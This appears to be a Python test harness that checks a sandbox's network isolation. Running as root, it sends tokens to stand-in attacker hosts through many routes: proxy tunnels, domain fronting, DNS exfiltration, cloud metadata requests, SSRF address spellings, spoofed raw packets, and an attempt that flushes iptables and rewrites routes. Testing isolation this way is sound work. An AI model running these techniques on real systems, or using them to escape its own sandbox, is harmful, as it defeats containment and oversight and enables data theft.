"""Ways out of a sandbox, tried as root. Each sends a token of its own, `<prefix>-<name>`, to somebody it must not reach.
Arguments: prefix, the proxy's address, its port, the box's own address, the port of its API, a neighbour's address."""
import ctypes, socket, ssl, struct, subprocess, sys, threading, urllib.request

prefix, proxy, proxy_port, box, api_port, neighbour = sys.argv[1:7]
proxy_port, api_port = int(proxy_port), int(api_port)
attacker, name_server, cdn = '198.51.100.66', '192.0.2.53', '203.0.113.10'
# Its port 9100 is allowed to the one who tries, and that alone.
peer = '203.0.113.20'
attempts = {}


def attempt(function):
    attempts[function.__name__.replace('_', '-')] = function
    return function


def tcp(host, port, data, seconds=3):
    with socket.create_connection((host, port), seconds) as connection:
        connection.sendall(data)
        connection.settimeout(seconds)
        return connection.recv(4096)


def udp(host, port, data, kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(socket.AF_INET, kind, protocol) as connection:
        connection.sendto(data, (host, port))


def get(token, host):
    return f'GET /{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode()


def tls(token, address, name, host, port=443, tunnel=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = socket.create_connection((address, port), 3)
    if tunnel:
        connection.sendall(f'CONNECT {tunnel} HTTP/1.1\r\nHost: {tunnel}\r\n\r\n'.encode())
        connection.recv(4096)
    with context.wrap_socket(connection, server_hostname=name) as secured:
        secured.sendall(get(token, host))
        secured.recv(4096)


def question(name, kind=1):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('!HH', kind, 1)


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def raw(protocol, payload, target=attacker, source='0.0.0.0', options=b'', flags=0):
    head = struct.pack('!BBHHHBBH4s4s', 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 77, flags, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as connection:
        connection.sendto(head + payload, (target, 0))


def datagram(token, port=9000):
    return struct.pack('!HHHH', 9000, port, 8 + len(token), 0) + token.encode()


@attempt
def tcp_to_an_address(token): tcp(attacker, 7000, token.encode())
@attempt
def http_to_an_address(token): tcp(attacker, 80, get(token, attacker))
@attempt
def http_with_an_allowed_host(token): tcp(attacker, 80, get(token, 'open.example'))
@attempt
def http_on_another_port(token): tcp(attacker, 8080, get(token, 'open.example'))
@attempt
def tls_with_an_allowed_name(token): tls(token, attacker, 'open.example', 'open.example')
@attempt
def tls_without_a_name(token): tls(token, attacker, None, 'open.example')
@attempt
def tls_to_a_shared_address(token): tls(token, cdn, 'evil.example', 'evil.example')
@attempt
def tls_fronted(token): tls(token, cdn, 'api.example', 'evil.example')
@attempt
def a_tunnel_to_a_name(token): tls(token, proxy, 'attacker.example', 'attacker.example', proxy_port, 'attacker.example:443')
@attempt
def a_tunnel_to_an_address(token): tls(token, proxy, 'open.example', 'open.example', proxy_port, f'{attacker}:443')
@attempt
def a_tunnel_to_the_box(token): tls(token, proxy, 'open.example', 'open.example', proxy_port, f'{box}:{api_port}')
@attempt
def absolute_uri(token): tcp(proxy, proxy_port, f'GET http://attacker.example/{token} HTTP/1.1\r\nHost: open.example\r\n\r\n'.encode())
@attempt
def absolute_uri_with_user(token): tcp(proxy, proxy_port, f'GET http://open.example@attacker.example/{token} HTTP/1.1\r\nHost: open.example\r\n\r\n'.encode())
@attempt
def loopback_of_the_box(token): tcp(proxy, proxy_port, f'GET http://127.0.0.1/{token} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode())
@attempt
def the_api_by_proxy(token): tcp(proxy, proxy_port, f'GET http://{box}:{api_port}/v0/{token} HTTP/1.1\r\nHost: {box}\r\n\r\n'.encode())
@attempt
def the_api(token): tcp(box, api_port, get(token, box))
@attempt
def metadata(token): tcp('169.254.169.254', 80, get(token, '169.254.169.254'))
@attempt
def metadata_by_proxy(token): tcp(proxy, proxy_port, f'GET http://169.254.169.254/{token} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n'.encode())
@attempt
def a_private_network(token): tcp('10.0.0.5', 80, get(token, '10.0.0.5'))
@attempt
def a_carrier_network(token): tcp('100.64.0.9', 80, get(token, '100.64.0.9'))
@attempt
def the_neighbour(token): tcp(neighbour, 8080, get(token, neighbour))
@attempt
def the_neighbour_by_proxy(token): tcp(proxy, proxy_port, f'GET http://{neighbour}:8080/{token} HTTP/1.1\r\nHost: {neighbour}\r\n\r\n'.encode())
@attempt
def the_way_out_itself(token): tcp(proxy, proxy_port + 1, get(token, 'open.example'))
@attempt
def udp_to_an_address(token): udp(attacker, 9000, token.encode())
@attempt
def udp_to_another_port_of_a_peer(token): udp(peer, 9000, token.encode())
@attempt
def quic_to_a_peer(token): udp(peer, 443, b'\xc0\0\0\0\1' + token.encode())
@attempt
def quic(token): udp(attacker, 443, b'\xc0\0\0\0\1' + token.encode())
@attempt
def udp_to_a_name_server_of_its_own(token): udp(attacker, 53, token.encode())
@attempt
def udp_lite(token): udp(attacker, 9000, token.encode(), socket.SOCK_DGRAM, 136)
@attempt
def broadcast(token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        connection.sendto(token.encode(), ('255.255.255.255', 9000))
@attempt
def multicast(token): udp('239.1.2.3', 9000, token.encode())
@attempt
def dns_by_the_system(token): socket.getaddrinfo(f'{token}.attacker.example', 80)
@attempt
def dns_to_another_resolver(token): udp(name_server, 53, question(f'{token}.attacker.example'))
@attempt
def dns_over_tcp(token):
    asked = question(f'{token}.attacker.example')
    tcp(name_server, 53, struct.pack('!H', len(asked)) + asked)
@attempt
def dns_text_records(token): udp(name_server, 53, question(f'{token}.open.example', 16))
@attempt
def tcp_on_the_port_of_dns(token): tcp(attacker, 53, token.encode())
@attempt
def fast_open(token):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.sendto(token.encode(), socket.MSG_FASTOPEN, (attacker, 7000))
@attempt
def sctp(token):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as connection:
        connection.settimeout(2)
        connection.connect((attacker, 7000))
@attempt
def ping(token):
    body = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + token.encode()
    body = body[:2] + struct.pack('!H', checksum(body)) + body[4:]
    raw(1, body)
@attempt
def a_protocol_nobody_knows(token): raw(253, token.encode())
@attempt
def raw_udp(token): raw(17, datagram(token))
@attempt
def raw_udp_in_fragments(token):
    payload = datagram(token * 8)
    raw(17, payload[:24], flags=0x2000)
    raw(17, payload[24:], flags=3)
@attempt
def raw_tcp(token):
    head = struct.pack('!HHIIBBHHH', 4000, 7000, 1, 0, 0x50, 2, 65535, 0, 0)
    pseudo = socket.inet_aton('0.0.0.0') + socket.inet_aton(attacker) + struct.pack('!BBH', 0, 6, 20 + len(token))
    raw(6, head[:16] + struct.pack('!H', checksum(pseudo + head + token.encode())) + head[18:] + token.encode())
@attempt
def from_a_neighbours_address(token): raw(17, datagram(token), source=neighbour)
@attempt
def from_the_boxs_address(token): raw(17, datagram(token), source=box)
@attempt
def to_a_peer_from_a_neighbours_address(token): raw(17, datagram(token, 9100), target=peer, source=neighbour)
@attempt
def to_a_peer_from_the_boxs_address(token): raw(17, datagram(token, 9100), target=peer, source=box)
@attempt
def fragments_to_another_port_of_a_peer(token):
    payload = datagram(token * 8)
    raw(17, payload[:24], target=peer, flags=0x2000)
    raw(17, payload[24:], target=peer, flags=3)
@attempt
def udp_lite_to_a_peer(token): udp(peer, 9100, token.encode(), socket.SOCK_DGRAM, 136)
@attempt
def source_routed(token): raw(17, datagram(token), target=box, options=b'\x83\x07\x04' + socket.inet_aton(attacker) + b'\0')
@attempt
def in_a_packet(token): raw(4, struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(token), 9, 0, 64, 17, 0, socket.inet_aton(box), socket.inet_aton(attacker)) + datagram(token))
@attempt
def ipv6(token):
    for address in ('::ffff:198.51.100.66', '2001:db8::66', 'fe80::1%eth0', 'ff02::1%eth0'):
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as connection:
                connection.sendto(token.encode(), socket.getaddrinfo(address, 9000, type=socket.SOCK_DGRAM)[0][4])
        except OSError:
            pass
@attempt
def frames_of_its_own(token):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as connection:
        connection.bind(('eth0', 0x0800))
        body = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(token), 9, 0, 64, 17, 0, socket.inet_aton(neighbour), socket.inet_aton(attacker))
        body = body[:10] + struct.pack('!H', checksum(body)) + body[12:]
        connection.send(b'\xff' * 6 + b'\2\0\0\0\0\1' + b'\x08\0' + body + datagram(token))
@attempt
def a_gateway_of_its_own(token):
    for line in (f'ip addr add {neighbour}/32 dev eth0', 'ip route replace default dev eth0', 'sysctl -w net.ipv6.conf.all.disable_ipv6=0',
                 'iptables -F', 'iptables -t nat -F', 'iptables -t raw -F', '/.hutch/bin/iptables -t nat -F', '/.hutch/bin/iptables -F',
                 f'ip route add {attacker}/32 via {box} onlink dev eth0'):
        subprocess.run(line.split(), capture_output=True, check=False)
    udp(attacker, 9000, token.encode())


def also(name, function, *rest):
    attempts[name] = lambda token: function(token, *rest)


def by_proxy(token, host): tcp(proxy, proxy_port, f'GET http://{host}/{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode())


def by_tunnel(token, place):
    with socket.create_connection((proxy, proxy_port), 3) as connection:
        connection.settimeout(3)
        connection.sendall(f'CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n'.encode())
        connection.recv(4096)
        connection.sendall(get(token, place))
        connection.recv(4096)


def say(token, text, place=(attacker, 80)): tcp(*place, text.replace('TOKEN', token).encode('latin1'))


# Addresses in every spelling that some library reads: of the box itself, of metadata services, of the attacker.
spellings = ['0x7f000001', '2130706433', '0177.0.0.1', '127.1', '0', '0.0.0.0', 'localhost', 'localhost.', 'LOCALHOST', '[::1]', '[::]',
             '[::ffff:127.0.0.1]', '[::ffff:169.254.169.254]', '[64:ff9b::a9fe:a9fe]', '0xa9fea9fe', '2852039166', '169.254.169.254.',
             '169.254.43518', '0251.0376.0251.0376', '198.51.100.66.', '0xc6336442', '3325256770', '198.51.25666', '0306.063.0144.0102',
             '%31%39%38.51.100.66', 'open.example%00.attacker.example', 'attacker.example%2eopen.example', 'open.example\\@attacker.example']
for at, host in enumerate(spellings):
    also(f'spelling-{at}', by_proxy, host)
    also(f'tunnel-to-spelling-{at}', by_tunnel, f'{host}:80')
for port in (22, 25, 53, 465, 853, 6667, 8443, 9001):
    also(f'tcp-port-{port}', lambda token, port: tcp(attacker, port, token.encode()), port)
    also(f'tunnel-port-{port}', by_tunnel, f'{attacker}:{port}')
for port in (123, 161, 500, 853, 1194, 3478, 4500, 51820):
    also(f'udp-port-{port}', lambda token, port: udp(attacker, port, token.encode()), port)
for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 65, 252, 255):
    also(f'dns-type-{kind}', lambda token, kind: udp(name_server, 53, question(f'{token}.attacker.example', kind)), kind)
for protocol in (2, 41, 47, 50, 51, 89, 103, 112, 115, 132):
    also(f'raw-protocol-{protocol}', lambda token, protocol: raw(protocol, token.encode()), protocol)
for at, place in enumerate((('10.0.0.5', 8080), ('100.64.0.9', 8080), ('169.254.169.254', 8080), (neighbour, 22), (box, 22))):
    also(f'closed-place-{at}', lambda token, place: tcp(*place, get(token, place[0])), place)
    also(f'tunnel-to-closed-place-{at}', by_tunnel, f'{place[0]}:{place[1]}')
heads = {
    'upper-case': 'GET /TOKEN HTTP/1.1\r\nHost: OPEN.EXAMPLE\r\n\r\n',
    'dot': 'GET /TOKEN HTTP/1.1\r\nHost: open.example.\r\n\r\n',
    'two-hosts': 'GET /TOKEN HTTP/1.1\r\nHost: open.example\r\nHost: attacker.example\r\n\r\n',
    'folded': 'GET /TOKEN HTTP/1.1\r\nHost:\r\n open.example\r\n\r\n',
    'absolute': 'GET http://open.example/TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
    'http-0.9': 'GET /TOKEN\r\n',
    'http-1.0': 'GET /TOKEN HTTP/1.0\r\n\r\n',
    'bare-newlines': 'GET /TOKEN HTTP/1.1\nHost: open.example\n\n',
    'late': '\r\n\r\nGET /TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
    'http-2': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTOKEN',
    'websocket': 'GET /TOKEN HTTP/1.1\r\nHost: open.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
    'trace': 'TRACE /TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
    'proxy-in-it': 'CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\nTOKEN',
    'banner': 'SSH-2.0-TOKEN\r\n',
    'nul': '\0\0\0\0TOKEN',
}
for name, head in heads.items():
    also(f'head-{name}', say, head)
for at, name in enumerate(('OPEN.EXAMPLE', 'open.example.', 'localhost', 'www.open.example', attacker)):
    also(f'tls-name-{at}', lambda token, name: tls(token, attacker, name, 'open.example'), name)


def run(name, function):
    try:
        function(f'{prefix}-{name}')
    except BaseException:
        # Refused, timed out, not permitted: all the same to whoever looks at what arrived.
        pass


def family(names):
    threads = [threading.Thread(target=run, args=(name, attempts[name]), daemon=True) for name in names]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(15)


socket.setdefaulttimeout(5)
# What changes the network comes last: it may spoil the others.
last = ['a-gateway-of-its-own']
family([name for name in attempts if name not in last])
family(last)
print(' '.join(attempts))
